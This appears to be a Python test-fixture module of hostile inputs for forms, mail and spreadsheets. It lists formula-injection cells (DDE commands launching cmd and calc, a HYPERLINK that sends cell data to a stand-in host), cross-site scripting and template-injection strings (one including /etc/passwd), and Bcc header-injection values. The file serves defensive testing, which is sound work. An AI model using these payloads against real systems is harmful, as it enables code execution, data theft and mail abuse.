"""What hostile people type into the fields of a form, a mail and a spreadsheet."""

from itertools import product
from typing import Final

_BEGINNINGS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''+",
    "\t=",
    "\r\n=",
    '"=',
)
_FORMULAS: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    "SUM(1,2)",
    'DDE("cmd";"/C calc")',
)
_AROUND: Final = ("", '"', "'", ",", ";", "\n", "\r\n", "\r", '""', '\n"=1')

#: Cells that a spreadsheet must not reckon with: every beginning, quote and line break together.
CELLS: Final = [
    before + formula + after for before, formula, after in product(_BEGINNINGS, _FORMULAS, _AROUND)
] + ["", "'", "''", "plain", "长", " =1", "1-1", "a@b", "\ufeff=1", "x" * 30_000]

#: Texts that a page must show as they are.
MARKUP: Final = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></select></style></script><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#62;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\u202e<b>\u2028</b>\u2029<i>",
    "＜script＞alert(1)＜/script＞",
)

#: What would make a second header or recipient of one value.
HEADERS: Final = (
    "\r\nBcc: x@example.com",
    "\nBcc: x@example.com",
    "\rBcc: x@example.com",
    "\r\n\r\n<script>alert(1)</script>",
    "\r\n Bcc: x@example.com",
    "\x0bBcc: x@example.com",
    "\x85Bcc: x@example.com",
    "\u2028Bcc: x@example.com",
    "\x00Bcc: x@example.com",
    "=?utf-8?q?=0d=0aBcc:=20x@example.com?=",
    "a, x@example.com",
    "a; x@example.com",
    "<x@example.com>",
    '" <x@example.com>, "',
)
